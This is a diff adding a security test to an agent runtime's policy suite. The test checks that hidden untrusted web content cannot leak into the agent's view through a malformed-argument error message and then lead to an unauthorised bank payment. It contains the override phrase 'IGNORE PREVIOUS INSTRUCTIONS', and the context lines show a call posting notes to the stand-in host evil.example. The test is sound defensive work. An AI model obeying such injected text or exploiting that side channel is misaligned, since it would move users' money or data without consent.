@@ -271,3 +271,33 @@ def test_a_delegation_denied_because_the_log_is_down_passes_no_handle_on(h, monk
     monkeypatch.setattr(audit, "record", real)
     d = h.call("lax", "web.post", {"url": "https://evil.example/", "body": notes})
     assert d.code == "HANDLE_DENIED", (d.value, d.audit)
+
+
+def test_a_malformed_argument_detail_does_not_show_a_handles_content():
+    """Handles are substituted before the arguments are conformed, and a value outside an enum is
+    quoted (80 characters) in the MALFORMED error, whose text the agent gets (``detail``). A hidden
+    untrusted page passed as an enum argument is read by the model this way, the context stays
+    clean, and the payment the page asks for is allowed."""
+
+    from dataclasses import replace
+
+    from runtime.tool import Tool, load_tools, tool
+    from runtime.trusted.wire import ParamSpec
+
+    @tool(effect="write", name="ticket.set", output={"integrity": "trusted", "carries_inputs": False})
+    def ticket_set(status: str) -> str:
+        """Set a ticket's status (an enum, as a JSON-schema tool such as an MCP server's declares it)."""
+        return status
+
+    enum = replace(ticket_set.spec, params={"status": ParamSpec(type="string", enum=("open", "closed"))})
+    ticket = Tool(ticket_set.fn, enum, ticket_set.schema, ticket_set.wants_ctx)
+    with PolicyHarness(tools={**load_tools(["flow_tools"]), "ticket.set": ticket}) as h:
+        h.add_agent({"agent": "a", "tools": {"web.get": {"effect": "read", "output": {"hide": True}},
+                                             "ticket.set": {"effect": "write"},
+                                             "bank.pay": {"effect": "write", "ifc": {"context": "trusted"}}}})
+        page = h.call("a", "web.get", {"url": "https://news.example/"}).value
+        d = h.call("a", "ticket.set", {"status": page})
+        assert d.code == "MALFORMED"
+        shown = d.error.detail or ""
+        pay = h.call("a", "bank.pay", {"iban": "XX99", "amount": 1})
+        assert "IGNORE PREVIOUS INSTRUCTIONS" not in shown or pay.code == "FLOW_DENIED", (shown, pay.code)
